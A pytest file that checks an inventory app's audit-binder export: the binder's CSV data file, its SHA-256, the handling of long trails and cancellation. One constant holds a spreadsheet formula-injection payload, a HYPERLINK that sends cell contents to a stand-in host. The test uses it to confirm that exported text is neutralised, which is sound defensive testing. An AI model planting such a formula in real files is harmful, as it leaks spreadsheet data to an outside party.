"""The audit-trail extract travels as data beside the binder, and the binder vouches for it.

An inspector reads the binder and filters the trail in a spreadsheet: the binder names the
data file and prints its SHA-256; the file holds every entry of the extract (whole hashes,
UTC times), neutralised like every export; a trail too long to print is tallied on paper
and kept whole in the file; a cancelled export leaves neither.
"""

from __future__ import annotations

import csv
import hashlib
from pathlib import Path

import pytest

from ids_app.db import Database
from ids_app.inventory.models import HoldReason, Kit
from ids_app.inventory.quarantine import quarantine_stock
from ids_app.reports import binder
from ids_app.reports.audit_data import AUDIT_DATA_COLUMNS
from ids_app.reports.exports import export_audit_binder
from ids_app.reports.gather import gather_study_record
from ids_app.reports.progress import ReportCancelled
from tests.factories import Example, make_example, receive_kits
from tests.reports.conftest import pdf_pages
from tests.reports.test_export_cells import runs_in_a_spreadsheet

TYPED_FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'


@pytest.fixture
def example(db: Database) -> Example:
    """ABC-123 with kits received and one held with details typed as a formula."""
    example = make_example(db)
    receive_kits(db, example, range(1001, 1006))
    with db.unit_of_work() as session:
        kit = session.query(Kit).filter_by(kit_number="1003").one()
        quarantine_stock(
            session,
            example.people.tech,
            session.merge(example.study),
            reason=HoldReason.DAMAGE,
            details=TYPED_FORMULA,
            kit=kit,
        )
    return example


def _read(path: Path) -> tuple[list[str], list[list[object]]]:
    with path.open(newline="", encoding="utf-8") as handle:
        # Read so: unquoted fields come back as numbers, quoted ones as text.
        header, *rows = list(csv.reader(handle, quoting=csv.QUOTE_NONNUMERIC))
    return [str(name) for name in header], rows


def _extract_ids(db: Database, example: Example) -> list[int]:
    with db.read_session() as session:
        record = gather_study_record(session, example.people.tech, "ABC-123")
    return [row.entry_id for row in record.audit]


def test_the_binder_names_its_audit_data_file_and_prints_its_sha256(
    db: Database, example: Example, tmp_path: Path
) -> None:
    extract = _extract_ids(db, example)
    result = export_audit_binder(db, example.people.tech, "ABC-123", tmp_path / "binder.pdf")
    data = result.audit_data_path
    assert data == tmp_path / "binder-audit-trail.csv"
    header, rows = _read(data)
    assert tuple(header) == AUDIT_DATA_COLUMNS
    assert [int(float(str(row[0]))) for row in rows] == extract
    digest = hashlib.sha256(data.read_bytes()).hexdigest()
    pages = pdf_pages(result.path)
    contents = next(page for page in pages if "Contents" in page and "1. Study summary" in page)
    assert "The whole extract is also the data file binder-audit-trail.csv" in contents
    text = "".join("".join(page.split()) for page in pages)
    assert f"SHA-256{digest}" in text
    assert f"Thewholeextract,{len(rows)}entries,isalsodata" in text


def test_text_typed_as_a_formula_is_data_in_the_audit_file(
    db: Database, example: Example, tmp_path: Path
) -> None:
    result = export_audit_binder(db, example.people.tech, "ABC-123", tmp_path / "binder.pdf")
    header, rows = _read(result.audit_data_path)
    for row in rows:
        for name, value in zip(header, row, strict=True):
            if name == "Entry":
                assert isinstance(value, float)
            else:
                assert isinstance(value, str)
                assert not runs_in_a_spreadsheet(value), (name, value)
    values = [str(row[header.index("New value")]) for row in rows]
    assert any(TYPED_FORMULA in value for value in values)
    hashes = [str(row[header.index("Entry SHA-256")]) for row in rows]
    assert all(len(value) == 64 for value in hashes)


def test_a_trail_too_long_to_print_is_tallied_on_paper_and_whole_in_the_data_file(
    db: Database, example: Example, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(binder, "PRINTED_AUDIT_ENTRIES", 5)
    result = export_audit_binder(db, example.people.tech, "ABC-123", tmp_path / "binder.pdf")
    _, rows = _read(result.audit_data_path)
    assert len(rows) > 5
    pages = pdf_pages(result.path)
    section = " ".join(
        pages[
            next(
                i
                for i, p in enumerate(pages)
                if "Audit-trail extract" in p and "Every audit-trail entry" in p
            ) :
        ]
    )
    assert f"{len(rows)} entries are more than a printed binder can usefully hold" in section
    assert "Old value" not in section  # no entry is printed
    assert "Record Action Entries First entry Last entry" in section


def test_a_cancelled_binder_leaves_no_audit_data_file_either(
    db: Database, example: Example, tmp_path: Path
) -> None:
    out = tmp_path / "exports"
    out.mkdir()

    def data_file_staged() -> bool:
        return any(out.glob(".binder-audit-trail.csv.*.part"))

    with pytest.raises(ReportCancelled):
        export_audit_binder(
            db, example.people.tech, "ABC-123", out / "binder.pdf", cancelled=data_file_staged
        )
    assert list(out.iterdir()) == []
